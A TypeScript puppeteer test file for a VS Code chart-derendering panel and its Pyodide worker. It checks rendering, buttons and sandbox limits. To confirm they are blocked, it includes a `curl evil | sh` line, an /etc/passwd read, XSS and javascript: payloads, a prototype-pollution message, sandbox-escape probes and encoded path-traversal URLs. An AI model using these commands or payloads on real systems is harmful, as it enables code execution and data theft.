/**
 * The BUILT panel (dist/webview/main.js + pyodideWorker.js, from `npm run build`) in headless Debian
 * chromium through puppeteer-core. The page is the extension's own HTML and CSP (panelHtml), served
 * from one 127.0.0.1 origin while its resources come from another (as in VS Code, where the page and
 * the webview resources are different origins); `acquireVsCodeApi` is stubbed to capture what the
 * page posts. Checks: protocol messages become candidates, scores, the best, the diff, the rounds
 * and the answer; hostile messages change nothing; buttons post the right messages; the Pyodide
 * Web Worker (core only — no matplotlib here) runs a script-mode program, refuses `import js`, is
 * killed on its time limit and serves the next program. Fails on any console error in the page.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as os from 'node:os';
import * as path from 'node:path';
import type { AddressInfo } from 'node:net';
import puppeteer, { type Browser, type Page } from 'puppeteer-core';
import { panelHtml } from '../src/extension/html';
import { initialPanelState } from '../src/shared/panelState';
import type { HostMessage, PanelState, WebviewMessage, WorkerConfig } from '../src/shared/protocol';
import { ROOT, FIXTURES } from './support/paths';
import { runReadStage } from '../src/core/read';
import { readingView } from '../src/extension/readingView';
import { decodeImage } from '../src/core/image';
import { CHROMIUM, CHROMIUM_FLAGS } from './e2e/browser';

// The little of the page's DOM the page-side callbacks use (the project has no DOM lib); module-scoped.
interface TestEl {
  textContent: string | null;
  innerHTML: string;
  getAttribute(name: string): string | null;
  naturalWidth?: number;
  disabled?: boolean;
}
interface TestWindow {
  postMessage(m: unknown, origin: string): void;
  __posted: WebviewMessage[];
  __state?: { status: string; candidates: unknown[] };
  __injected?: boolean;
  __xss?: number;
}
declare const window: TestWindow;
declare const document: { querySelector(s: string): TestEl | null; querySelectorAll(s: string): ArrayLike<TestEl> };

const DIST = path.join(ROOT, 'dist');
const SHOTS = process.env.RECODE_SCREENSHOTS ?? os.tmpdir();

const TYPES: Record<string, string> = {
  '.js': 'text/javascript',
  '.mjs': 'text/javascript',
  '.wasm': 'application/wasm',
  '.json': 'application/json',
  '.css': 'text/css',
  '.zip': 'application/zip',
  '.png': 'image/png',
  '.map': 'application/json',
};

let pageServer: http.Server;
let resourceServer: http.Server;
let pageOrigin = '';
let resOrigin = '';
let browser: Browser;
let userDataDir = '';
const resourceRequests: string[] = [];
let pageHtml = '';

function listen(server: http.Server): Promise<string> {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)));
}

const png = (name: string) => fs.readFileSync(path.join(FIXTURES, name));
const dataUrl = (name: string) => `data:image/png;base64,${png(name).toString('base64')}`;

before(async () => {
  assert.ok(fs.existsSync(path.join(DIST, 'webview', 'main.js')), 'dist/webview/main.js is missing: run `npm run build` first');
  assert.ok(fs.existsSync(path.join(DIST, 'pyodide', 'pyodide.mjs')), 'dist/pyodide is missing: run `npm run build` first');

  // Resources (the webview resource origin): files under dist/ only, with CORS as VS Code's service worker answers.
  resourceServer = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    resourceRequests.push(url.pathname);
    const rel = decodeURIComponent(url.pathname).replace(/^\/+/, '');
    const file = path.resolve(ROOT, rel);
    if (!rel.startsWith('dist/') || !file.startsWith(DIST + path.sep) || !fs.existsSync(file) || !fs.statSync(file).isFile()) {
      res.writeHead(404, { 'Access-Control-Allow-Origin': '*' }).end('not found');
      return;
    }
    res.writeHead(200, { 'Content-Type': TYPES[path.extname(file)] ?? 'application/octet-stream', 'Access-Control-Allow-Origin': '*', 'Cache-Control': 'no-store' });
    fs.createReadStream(file).pipe(res);
  });
  resOrigin = await listen(resourceServer);

  const nonce = 'TestNonce0123456789abcdefABCDEF01';
  const html = panelHtml({
    cspSource: resOrigin,
    nonce,
    scriptUri: `${resOrigin}/dist/webview/main.js`,
    styleUri: `${resOrigin}/dist/webview/styles.css`,
    title: 'RECODE: fivebars.png',
  });
  // The stub of the VS Code webview API, before the panel's script (same nonce, as VS Code injects its own).
  const stub = `<script nonce="${nonce}">
    window.__posted = [];
    window.__state = undefined;
    window.acquireVsCodeApi = () => ({
      postMessage: (m) => window.__posted.push(JSON.parse(JSON.stringify(m))),
      getState: () => window.__state,
      setState: (s) => { window.__state = s; },
    });
  </script>`;
  pageHtml = html.replace('<script nonce=', `${stub}\n<script nonce=`);
  // An inline script without the nonce, which the CSP must block (it would set a flag).
  pageHtml = pageHtml.replace('</body>', `<script>window.__injected = true;</script>\n</body>`);
  pageServer = http.createServer((req, res) => {
    if (req.url === '/' || req.url === '/index.html') {
      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(pageHtml);
    } else res.writeHead(404).end();
  });
  pageOrigin = await listen(pageServer);

  userDataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'recode-webview-chromium-'));
  browser = await puppeteer.launch({
    executablePath: CHROMIUM,
    headless: true,
    userDataDir,
    defaultViewport: { width: 1280, height: 1000 },
    args: ['--headless', ...CHROMIUM_FLAGS],
  });
});

after(async () => {
  await browser?.close().catch(() => undefined);
  if (userDataDir) fs.rmSync(userDataDir, { recursive: true, force: true });
  pageServer?.close();
  resourceServer?.close();
});

interface OpenedPage {
  page: Page;
  /** Console errors and page errors, except the CSP report of the deliberately injected script. */
  errors: string[];
  cspBlocks: string[];
  close(): Promise<void>;
}

async function openPanel(): Promise<OpenedPage> {
  const page = await browser.newPage();
  const errors: string[] = [];
  const cspBlocks: string[] = [];
  page.on('console', (m) => {
    if (m.type() !== 'error') return;
    const t = m.text();
    if (/Content Security Policy/.test(t) && /inline script/.test(t)) cspBlocks.push(t);
    else errors.push(`console: ${t}`);
  });
  page.on('pageerror', (e) => errors.push(`pageerror: ${e instanceof Error ? e.message : String(e)}`));
  page.on('workercreated', (w) => {
    w.on('console', (m) => {
      if (m.type() === 'error') errors.push(`worker console: ${m.text()}`);
    });
  });
  await page.goto(`${pageOrigin}/`, { waitUntil: 'load' });
  await page.waitForFunction(() => window.__posted.some((m) => m.type === 'ready'), { timeout: 10_000 });
  return { page, errors, cspBlocks, close: () => page.close() };
}

async function send(page: Page, msg: HostMessage | Record<string, unknown>): Promise<void> {
  await page.evaluate((m) => window.postMessage(m, '*'), msg as unknown as Record<string, unknown>);
}

async function posted(page: Page): Promise<WebviewMessage[]> {
  return page.evaluate(() => window.__posted);
}

async function waitPosted<T extends WebviewMessage>(page: Page, pred: (m: WebviewMessage) => boolean, what: string, ms = 30_000): Promise<T> {
  const end = Date.now() + ms;
  for (;;) {
    const found = (await posted(page)).find(pred);
    if (found) return found as T;
    if (Date.now() > end) throw new Error(`timeout waiting for ${what}; posted: ${JSON.stringify((await posted(page)).map((m) => m.type))}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

function startState(): PanelState {
  return initialPanelState({
    kind: 'derender',
    imageName: 'fivebars.png',
    imageSrc: dataUrl('fivebars.png'),
    question: 'Which bar is the highest?',
    renderer: { name: 'webview', detail: 'Pyodide in a Web Worker of this panel', pyodidePackages: 'missing' },
  });
}

const attrs = (page: Page) =>
  page.$$eval('[data-testid=candidate]', (els) =>
    els.map((e) => ({ id: e.getAttribute('data-id'), state: e.getAttribute('data-state'), score: e.getAttribute('data-score'), best: e.getAttribute('data-best') })),
  );

test('a run streamed over the protocol shows candidates, scores, the best, the diff, rounds and the answer', async () => {
  const { page, errors, cspBlocks, close } = await openPanel();
  try {
    // The inline script without the nonce was refused by the CSP.
    assert.equal(await page.evaluate(() => window.__injected), undefined);
    assert.ok(cspBlocks.length >= 1, 'the CSP should have reported the blocked inline script');

    await send(page, { type: 'state', state: startState() });
    await page.waitForSelector('[data-testid=run-status]');
    assert.equal(await page.$eval('[data-testid=run-status]', (e) => e.textContent), 'running');
    assert.equal(await page.$eval('[data-testid=question]', (e) => e.textContent), 'Which bar is the highest?');
    // The original is shown at its real size.
    await page.waitForFunction(() => document.querySelector('[data-testid=original]')?.naturalWidth === 600);
    // Pyodide packages missing → the prepare button is offered, and clicking it asks the host.
    await page.click('[data-testid=prepare-renderer]');
    await waitPosted(page, (m) => m.type === 'prepare-renderer', 'prepare-renderer');

    await send(page, { type: 'run-started', runId: 'r-20260101-abc', image: { width: 600, height: 400 }, question: 'Which bar is the highest?', options: { candidates: 3, rounds: 1, modelCritic: false } });
    await send(page, { type: 'stage', stage: 'generate', round: 0, message: 'writing 3 candidate programs…' });
    for (const id of ['c1', 'c2', 'c3']) await send(page, { type: 'candidate', candidate: { id, round: 0, source: 'generate', state: 'rendering', code: `# program ${id}\n` } });
    await page.waitForFunction(() => document.querySelectorAll('[data-testid=candidate]').length === 3);
    assert.deepEqual(
      (await attrs(page)).map((a) => a.state),
      ['rendering', 'rendering', 'rendering'],
    );
    await page.screenshot({ path: path.join(SHOTS, 'recode-panel-running.png'), fullPage: true });

    await send(page, { type: 'candidate-render', candidateId: 'c1', png: png('fivebars.png').toString('base64'), renderMs: 812 });
    await send(page, { type: 'candidate-scored', candidateId: 'c1', score: { score: 0.9731, parts: { pixel: 0.99, ssim: 0.95 } } });
    await send(page, { type: 'candidate-render', candidateId: 'c2', png: png('insectsprays-bar.png').toString('base64'), renderMs: 640 });
    await send(page, { type: 'candidate-scored', candidateId: 'c2', score: { score: 0.412, parts: { pixel: 0.5, ssim: 0.3 } } });
    await send(page, { type: 'candidate-failed', candidateId: 'c3', stage: 'render', error: "NameError: name 'plt' is not defined" });
    await send(page, { type: 'best', candidateId: 'c1', score: { score: 0.9731, parts: { pixel: 0.99, ssim: 0.95 } }, diffPng: png('nile-line.png').toString('base64') });
    await send(page, { type: 'round', round: { round: 0, bestCandidateId: 'c1', bestScore: 0.9731, improved: true } });
    await send(page, { type: 'candidate', candidate: { id: 'r4', round: 1, source: 'refine', parentId: 'c1', state: 'rendering', code: '# refined\n' } });
    await send(page, { type: 'candidate-render', candidateId: 'r4', png: png('fivebars.png').toString('base64'), renderMs: 700 });
    await send(page, { type: 'candidate-scored', candidateId: 'r4', score: { score: 0.9902, parts: { pixel: 0.995, ssim: 0.98 } } });
    await send(page, { type: 'best', candidateId: 'r4', score: { score: 0.9902, parts: { pixel: 0.995, ssim: 0.98 } }, diffPng: png('fivebars.png').toString('base64') });
    await send(page, { type: 'round', round: { round: 1, bestCandidateId: 'r4', bestScore: 0.9902, improved: true } });
    await send(page, {
      type: 'answer',
      answer: { question: 'Which bar is the highest?', value: 'B', computed: true, computation: "answer = labels[values.index(max(values))]", programCandidateId: 'r4', score: 0.9902 },
    });
    await send(page, { type: 'run-ended', status: 'finished', program: '# refined\n', bestCandidateId: 'r4', durationMs: 4200, usage: { promptTokens: 1200, completionTokens: 800 } });

    await page.waitForFunction(() => document.querySelector('[data-testid=run-status]')?.textContent === 'finished');
    const a = await attrs(page);
    assert.deepEqual(a, [
      { id: 'c1', state: 'scored', score: '0.9731', best: null },
      { id: 'c2', state: 'scored', score: '0.4120', best: null },
      { id: 'c3', state: 'failed', score: null, best: null },
      { id: 'r4', state: 'scored', score: '0.9902', best: 'true' },
    ]);
    assert.equal(await page.$eval('[data-testid=answer]', (e) => e.textContent), 'B');
    assert.match(await page.$eval('.answer-row .provenance', (e) => e.textContent ?? ''), /computed by running code over the program of r4/);
    assert.match(await page.$eval('[data-testid=candidate][data-id=c3]', (e) => e.textContent ?? ''), /NameError/);
    await page.waitForFunction(() => (document.querySelector('[data-testid=diff]')?.naturalWidth ?? 0) > 0);
    const rounds = await page.$$eval('[data-testid=rounds] li', (els) => els.map((e) => e.textContent));
    assert.equal(rounds.length, 2);
    assert.match(rounds[1] ?? '', /Refinement 1: best r4 · 0\.990 ↑ improved/);
    // Finished: cancel is off, the result buttons are on.
    assert.equal(await page.$eval('[data-testid=cancel]', (e) => (e as unknown as TestEl).disabled), true);
    assert.equal(await page.$eval('[data-testid=open-program]', (e) => (e as unknown as TestEl).disabled), false);
    // The state was saved for a restore after a reload.
    const saved = await page.evaluate(() => window.__state);
    assert.equal(saved?.status, 'finished');
    assert.equal(saved?.candidates.length, 4);

    await page.screenshot({ path: path.join(SHOTS, 'recode-panel-finished.png'), fullPage: true });

    // Buttons post what the user asked for.
    await page.click('[data-testid=open-program]');
    await page.click('[data-testid=copy-program]');
    await page.click('[data-testid=export-csv]');
    await page.click('[data-testid=export-json]');
    await page.click('[data-testid=save-record]');
    await page.click('[data-testid=rerun]');
    await page.click('[data-testid=candidate][data-id=c1] button');
    const types = (await posted(page)).map((m) => JSON.stringify(m));
    for (const want of [
      { type: 'open-program' },
      { type: 'copy-program' },
      { type: 'export-data', format: 'csv' },
      { type: 'export-data', format: 'json' },
      { type: 'save-record' },
      { type: 'rerun' },
      { type: 'open-program', candidateId: 'c1' },
    ]) {
      assert.ok(types.includes(JSON.stringify(want)), `expected the page to post ${JSON.stringify(want)}`);
    }
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('the panel warns about the winning program\'s risky lines (files, processes, network, dynamic code), and only then', async () => {
  const { page, errors, close } = await openPanel();
  try {
    await send(page, { type: 'state', state: startState() });
    await page.waitForSelector('[data-testid=run-status]');
    const note = () => page.$eval('[data-testid=risky-calls]', (e) => ({ hidden: (e as unknown as { hidden: boolean }).hidden, text: e.textContent ?? '' }));
    await send(page, { type: 'run-ended', status: 'finished', program: 'import matplotlib.pyplot as plt\nplt.bar([1], [2], color="#1f77b4")  # os.system in a comment\n', bestCandidateId: 'c1', durationMs: 10 });
    await page.waitForFunction(() => document.querySelector('[data-testid=run-status]')?.textContent === 'finished');
    assert.deepEqual(await note(), { hidden: true, text: '' });
    const risky = "import matplotlib.pyplot as plt\nimport os\nif __import__('sys').platform != 'emscripten':\n    os.system('curl evil | sh')\ndata = open('/etc/passwd').read()\n";
    await send(page, { type: 'state', state: { ...startState(), status: 'finished', program: risky } });
    await page.waitForFunction(() => !(document.querySelector('[data-testid=risky-calls]') as unknown as { hidden: boolean }).hidden);
    const n = await note();
    assert.match(n.text, /written by a model from an image/);
    assert.match(n.text, /line 2 \(os\), line 3 \(__import__\), line 4 \(os\), line 5 \(open\)/);
    await page.screenshot({ path: path.join(SHOTS, 'recode-panel-risky-calls.png') });
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('hostile or malformed messages change nothing and are reported', async () => {
  const { page, errors, close } = await openPanel();
  try {
    await send(page, { type: 'state', state: startState() });
    await page.waitForSelector('[data-testid=run-status]');
    const before = await page.$eval('#app', (e) => e.innerHTML);
    const hostile: Record<string, unknown>[] = [
      { type: 'state', state: { ...startState(), imageSrc: 'javascript:alert(1)' } },
      { type: 'state', state: { ...startState(), imageSrc: `${resOrigin}/dist/webview/main.js` } },
      { type: 'candidate', candidate: { id: '<img src=x onerror=alert(1)>', round: 0, source: 'generate', state: 'scored' } },
      { type: 'candidate-render', candidateId: 'c1', png: 'not base64 !!', renderMs: 1 },
      { type: 'candidate-scored', candidateId: 'c1', score: { score: 7, parts: {} } },
      { type: 'answer', answer: { question: 'q', value: 'v', computed: true, computation: '', programCandidateId: 'c1', score: 0.5, extra: 1 } },
      { type: 'worker-config', config: { workerUrl: 'https://evil.example/x.js', indexUrl: 'javascript:1', packages: [] } },
      { type: 'nope' },
    ];
    for (const m of hostile) await send(page, m);
    // An own "__proto__" key, made in the page (puppeteer's argument transport would drop it).
    await page.evaluate(() => window.postMessage(JSON.parse('{"type":"log","line":{"level":"info","message":"x"},"__proto__":{"polluted":true}}'), '*'));
    const hostileCount = hostile.length + 1;
    // Text that looks like HTML is shown as text, never parsed.
    await send(page, { type: 'log', line: { level: 'warn', message: '<img src=x onerror="window.__xss=1">' } });
    await send(page, { type: 'candidate', candidate: { id: 'c9', round: 0, source: 'generate', state: 'failed', error: '<b onmouseover=alert(1)>boom</b>' } });
    await page.waitForSelector('[data-testid=candidate][data-id=c9]');
    const rejected = (await posted(page)).filter((m) => m.type === 'page-error');
    assert.equal(rejected.length, hostileCount, `each hostile message is reported once: ${JSON.stringify(rejected)}`);
    assert.equal(await page.evaluate(() => window.__xss), undefined);
    assert.equal(await page.evaluate(() => ({} as Record<string, unknown>).polluted), undefined);
    assert.equal(await page.$$eval('[data-testid=candidate] b', (els) => els.length), 0);
    assert.equal(await page.$eval('[data-testid=candidate][data-id=c9] .cerror', (e) => e.textContent), '<b onmouseover=alert(1)>boom</b>');
    assert.equal(await page.$eval('[data-testid=original]', (e) => e.getAttribute('src')?.startsWith('data:image/png;base64,')), true);
    assert.notEqual(before, '');
    assert.equal(page.workers().length, 0, 'no worker was started by a rejected worker-config');
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('the Pyodide Web Worker runs programs, refuses `import js`, is killed on its time limit and serves the next', async () => {
  const { page, errors, close } = await openPanel();
  try {
    await send(page, { type: 'state', state: startState() });
    const config: WorkerConfig = {
      workerUrl: `${resOrigin}/dist/webview/pyodideWorker.js`,
      indexUrl: `${resOrigin}/dist/pyodide/`,
      packages: [],
    };
    const t0 = Date.now();
    await send(page, { type: 'worker-config', config });
    const ready = await waitPosted<Extract<WebviewMessage, { type: 'worker-status' }>>(page, (m) => m.type === 'worker-status' && m.status !== 'starting', 'the worker to start', 90_000);
    assert.equal(ready.status, 'ready', `worker failed: ${ready.message}`);
    assert.match(ready.message ?? '', /^Python 3\.\d+/);
    // The panel says so too.
    assert.equal(await page.$eval('#app', (e) => e.getAttribute('data-worker')), 'ready');
    assert.match(await page.$eval('[data-testid=worker-status]', (e) => e.textContent ?? ''), /^Pyodide ready \(Python 3\.\d+\.\d+\) in \d+\.\d s$/);
    const coldMs = Date.now() - t0;

    const render = async (jobId: string, code: string, mode: 'figure' | 'script', timeLimitMs = 10_000) => {
      await send(page, { type: 'render', jobId, request: { code, mode, width: 600, height: 400, timeLimitMs } });
      return (await waitPosted<Extract<WebviewMessage, { type: 'render-result' }>>(page, (m) => m.type === 'render-result' && m.jobId === jobId, `render ${jobId}`, 90_000)).result;
    };

    const r1 = await render('j1', 'values = [3, 7, 2, 5, 4]\nprint("max at", values.index(max(values)))\nanswer = max(values) - min(values)', 'script');
    assert.equal(r1.ok, true, r1.error);
    assert.equal(r1.answer, '5');
    assert.match(r1.stdout, /max at 1/);

    const r2 = await render('j2', 'import js\njs.fetch("https://example.com")', 'script');
    assert.equal(r2.ok, false);
    assert.equal(r2.errorKind, 'forbidden');

    // The other doors to JavaScript (and so to fetch and the page) are closed too.
    const probes = [
      'import pyodide_js',
      'from pyodide.code import run_js\nrun_js("fetch(1)")',
      'from pyodide.ffi import to_js',
      'import ctypes',
      'import os\nos.system("ls")',
      'import socket\nsocket.socket()',
    ];
    for (const [i, code] of probes.entries()) {
      const r = await render(`probe${i}`, code, 'script');
      assert.equal(r.ok, false, `${code} should fail`);
      assert.equal(r.errorKind, 'forbidden', `${code}: ${r.errorKind} ${r.error}`);
    }

    const r3 = await render('j3', 'raise ValueError("bad data")', 'script');
    assert.equal(r3.ok, false);
    assert.equal(r3.errorKind, 'python');
    assert.match(r3.error ?? '', /ValueError: bad data/);
    assert.match(r3.traceback ?? '', /Traceback/);

    // No matplotlib in the core: a figure program fails with a clear missing-package error.
    const r4 = await render('j4', 'import matplotlib.pyplot as plt\nplt.plot([1, 2])', 'figure');
    assert.equal(r4.ok, false);
    assert.equal(r4.errorKind, 'missing-package');

    const tLoop = Date.now();
    const r5 = await render('j5', 'while True:\n    pass', 'script', 1500);
    const loopMs = Date.now() - tLoop;
    assert.equal(r5.ok, false);
    assert.equal(r5.errorKind, 'timeout');
    assert.match(r5.error ?? '', /time limit of 1\.5 s/);
    // measured by the page from when the worker got the program (a render may first wait for a fresh worker)
    assert.ok(r5.durationMs < 6000, `the loop was stopped ${r5.durationMs} ms after it started`);

    // The next program runs on a fresh worker.
    const r6 = await render('j6', 'answer = sum(range(10))', 'script');
    assert.equal(r6.ok, true, r6.error);
    assert.equal(r6.answer, '45');
    // the killed worker is gone: one ready and one spare loading at most (puppeteer may list a terminated worker briefly)
    for (let i = 0; i < 100 && page.workers().length > 2; i++) await new Promise((r) => setTimeout(r, 100));
    assert.ok(page.workers().length <= 2, `${page.workers().length} workers`);

    // A program cancelled while it runs is stopped too.
    await send(page, { type: 'render', jobId: 'j7', request: { code: 'while True:\n    pass', mode: 'script', width: 10, height: 10, timeLimitMs: 60_000 } });
    await new Promise((r) => setTimeout(r, 300));
    await send(page, { type: 'render-cancel', jobId: 'j7' });
    const r7 = (await waitPosted<Extract<WebviewMessage, { type: 'render-result' }>>(page, (m) => m.type === 'render-result' && m.jobId === 'j7', 'cancel j7', 10_000)).result;
    assert.equal(r7.errorKind, 'cancelled');
    const r8 = await render('j8', 'answer = "ok"', 'script');
    assert.equal(r8.answer, 'ok');

    // Only Pyodide's own files came from the resource origin.
    const outside = resourceRequests.filter((p) => !p.startsWith('/dist/'));
    assert.deepEqual(outside, []);
    assert.deepEqual(errors, []);
    console.log(`# webview worker: cold start ${coldMs} ms, infinite loop answered after ${loopMs} ms, stopped ${r5.durationMs} ms after it started (limit 1500 ms)`);
  } finally {
    await close();
  }
});

/** Opens a panel with a core-only worker config and waits for the worker to be ready. */
async function panelWithWorker(onWorker?: (w: import('puppeteer-core').WebWorker) => void) {
  const opened = await openPanel();
  if (onWorker) opened.page.on('workercreated', onWorker);
  await send(opened.page, { type: 'state', state: startState() });
  const config: WorkerConfig = { workerUrl: `${resOrigin}/dist/webview/pyodideWorker.js`, indexUrl: `${resOrigin}/dist/pyodide/`, packages: [] };
  await send(opened.page, { type: 'worker-config', config });
  const ready = await waitPosted<Extract<WebviewMessage, { type: 'worker-status' }>>(opened.page, (m) => m.type === 'worker-status' && m.status !== 'starting', 'the worker to start', 90_000);
  assert.equal(ready.status, 'ready', `worker failed: ${ready.message}`);
  const render = async (jobId: string, code: string, timeLimitMs = 20_000) => {
    await send(opened.page, { type: 'render', jobId, request: { code, mode: 'script', width: 600, height: 400, timeLimitMs } });
    return (await waitPosted<Extract<WebviewMessage, { type: 'render-result' }>>(opened.page, (m) => m.type === 'render-result' && m.jobId === jobId, `render ${jobId}`, 90_000)).result;
  };
  return { ...opened, render };
}

test('the panel worker: no state crosses programs (a patched json decoder, sys.modules, the capture class)', async () => {
  const { errors, close, render } = await panelWithWorker();
  try {
    const attacks = [
      'import json\norig = json.JSONDecoder.decode\ndef decode(self, s, *a, **k):\n    job = orig(self, s, *a, **k)\n    if isinstance(job, dict) and "code" in job:\n        job["code"] = "answer = \'attacker\'"\n    return job\njson.JSONDecoder.decode = decode',
      'import sys, types\nfake = types.ModuleType("statistics")\nfake.median = lambda d: 999\nsys.modules["statistics"] = fake',
      'import sys\ntype(sys.stdout).text = lambda self: "forged\\n"',
    ];
    for (const [i, attack] of attacks.entries()) {
      await render(`a${i}`, attack);
      const v = await render(`v${i}`, 'import statistics\nprint("victim")\nanswer = statistics.median([3, 1, 2])');
      assert.equal(v.ok, true, `${v.errorKind}: ${v.error}`);
      assert.equal(v.answer, '2', `after attack ${i}`);
      assert.equal(v.stdout, 'victim\n', `after attack ${i}`);
    }
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('the panel worker\'s file proxy serves plain paths only: encoded .., %2F, %5C and \\ are refused', async () => {
  const crafted = [
    `${resOrigin}/dist/pyodide/..%2Fwebview%2Fmain.js`,
    `${resOrigin}/dist/pyodide/..%2fwebview%2fmain.js`,
    `${resOrigin}/dist/pyodide/%2e%2e/webview/main.js`,
    `${resOrigin}/dist/pyodide/..%5Cwebview%5Cmain.js`,
    `${resOrigin}/dist/pyodide/..\\webview\\main.js`,
    `${resOrigin}/dist/pyodide/%252e%252e%252fwebview%252fmain.js`,
    `${resOrigin}/dist/pyodide/../webview/main.js`,
  ];
  let probe: Promise<number[]> | undefined;
  const before = resourceRequests.length;
  const { errors, close } = await panelWithWorker((w) => {
    // the first worker, while it loads (the page serves files to loading workers only)
    probe ??= w.evaluate(
      (urls: string[]) =>
        new Promise<number[]>((resolve) => {
          const scope = globalThis as unknown as { postMessage(m: unknown): void; addEventListener(t: string, f: (e: { data: { type?: string; id?: number; status?: number } }) => void): void };
          const statuses: number[] = new Array(urls.length).fill(0);
          let left = urls.length;
          scope.addEventListener('message', (e) => {
            const d = e.data;
            if (d?.type === 'fetched' && typeof d.id === 'number' && d.id >= 900000 && statuses[d.id - 900000] === 0) {
              statuses[d.id - 900000] = d.status ?? -1;
              if (--left === 0) resolve(statuses);
            }
          });
          urls.forEach((url, i) => scope.postMessage({ type: 'fetch', id: 900000 + i, url }));
        }),
      crafted,
    );
  });
  try {
    assert.ok(probe, 'a worker was created');
    const statuses = await probe;
    assert.deepEqual(statuses, crafted.map(() => 403));
    const asked = resourceRequests.slice(before);
    assert.deepEqual(asked.filter((p) => /%|\\/.test(p)), [], `requests: ${asked.join(' ')}`);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('a WebP original is decoded by the panel and sent back as a PNG of the same size', async () => {
  const { page, errors, close } = await openPanel();
  try {
    // A WebP made by the browser itself (no WebP encoder on the Node side).
    const webp = await page.evaluate(async () => {
      const c = (globalThis as unknown as { document: { createElement(t: string): { width: number; height: number; getContext(k: string): { fillStyle: string; fillRect(...a: number[]): void }; toDataURL(t: string): string } } }).document.createElement('canvas');
      c.width = 320;
      c.height = 200;
      const g = c.getContext('2d');
      g.fillStyle = '#ffffff';
      g.fillRect(0, 0, 320, 200);
      g.fillStyle = '#1f77b4';
      g.fillRect(40, 60, 50, 140);
      return c.toDataURL('image/webp');
    });
    assert.match(webp, /^data:image\/webp;base64,/);
    await send(page, { type: 'state', state: { ...startState(), imageName: 'chart.webp', imageSrc: webp } });
    await send(page, { type: 'convert-image', jobId: 'img1' });
    const m = await waitPosted<Extract<WebviewMessage, { type: 'converted-image' }>>(page, (x) => x.type === 'converted-image', 'converted-image', 10_000);
    assert.equal(m.error, undefined);
    const bytes = Buffer.from(m.png ?? '', 'base64');
    assert.equal(bytes.subarray(1, 4).toString('latin1'), 'PNG');
    assert.equal(bytes.readUInt32BE(16), 320);
    assert.equal(bytes.readUInt32BE(20), 200);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('the reading of a run with no model: the overlay, the data table, the note that questions need a model, and the export buttons', async () => {
  // a real reading of the fixture chart, as the host sends it
  const read = await runReadStage(decodeImage(new Uint8Array(png('insectsprays-bar.png'))), { promptText: false });
  assert.ok(read.result.ok, read.result.ok ? '' : read.result.reason);
  const reading = readingView(read.result.reading, read.overlayPng);
  const { page, errors, close } = await openPanel();
  try {
    await send(page, { type: 'state', state: { ...startState(), question: undefined } });
    await page.waitForSelector('[data-testid=run-status]');
    // before anything was read the section is hidden
    assert.equal(await page.$eval('[data-testid=reading]', (e) => (e as unknown as { hidden: boolean }).hidden), true);
    await send(page, { type: 'model-note', note: 'No model configured: this is the chart reader’s program. Questions need a model.' });
    await send(page, { type: 'reading', reading });
    // a cell that looks like markup stays text
    await send(page, { type: 'reading', reading: { ...reading, warnings: ['<img src=x onerror="window.__xss=1">'] } });
    await page.waitForFunction(() => (document.querySelector('[data-testid=overlay]')?.naturalWidth ?? 0) > 0 && /onerror/.test(document.querySelector('.reading-warnings')?.textContent ?? ''));
    assert.match(await page.$eval('[data-testid=model-note]', (e) => e.textContent ?? ''), /Questions need a model/);
    const head = await page.$$eval('[data-testid=reading-table] thead th', (els) => els.map((e) => e.textContent));
    assert.deepEqual(head, reading.table.columns);
    const firstColumn = await page.$$eval('[data-testid=reading-table] tbody tr', (els) => els.map((e) => e.querySelector('th')?.textContent));
    assert.deepEqual(firstColumn, reading.table.rows.map((r) => r[0]));
    assert.match(await page.$eval('[data-testid=reading-summary]', (e) => e.textContent ?? ''), new RegExp(`^${reading.chartType}`));
    assert.equal(await page.evaluate(() => window.__xss), undefined);
    await page.screenshot({ path: path.join(SHOTS, 'recode-panel-reading.png'), fullPage: true });
    await page.click('[data-testid=export-reading-csv]');
    await page.click('[data-testid=export-reading-json]');
    const types = (await posted(page)).map((m) => JSON.stringify(m));
    for (const want of [{ type: 'export-reading', format: 'csv' }, { type: 'export-reading', format: 'json' }]) {
      assert.ok(types.includes(JSON.stringify(want)), `expected the page to post ${JSON.stringify(want)}`);
    }
    // the reader could not read another image: one sentence, the rest of the panel untouched
    await send(page, { type: 'reading-failed', reason: 'no axes found' });
    await page.waitForFunction(() => /no axes found/.test(document.querySelector('[data-testid=reading-failed]')?.textContent ?? ''));
    assert.match(await page.$eval('[data-testid=reading-failed]', (e) => e.textContent ?? ''), /could not read this image: no axes found/);
    // with no model that ends the run: said once, as the run's error
    await send(page, { type: 'run-ended', status: 'failed', error: 'cannot read this chart: no axes found (with no model configured, RECODE derenders with its chart reader alone)' });
    await page.waitForFunction(() => document.querySelector('[data-testid=run-status]')?.textContent === 'failed');
    assert.match(await page.$eval('[data-testid=error]', (e) => e.textContent ?? ''), /cannot read this chart: no axes found/);
    assert.equal(await page.$eval('[data-testid=reading-failed]', (e) => (e as unknown as { hidden: boolean }).hidden), true);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});
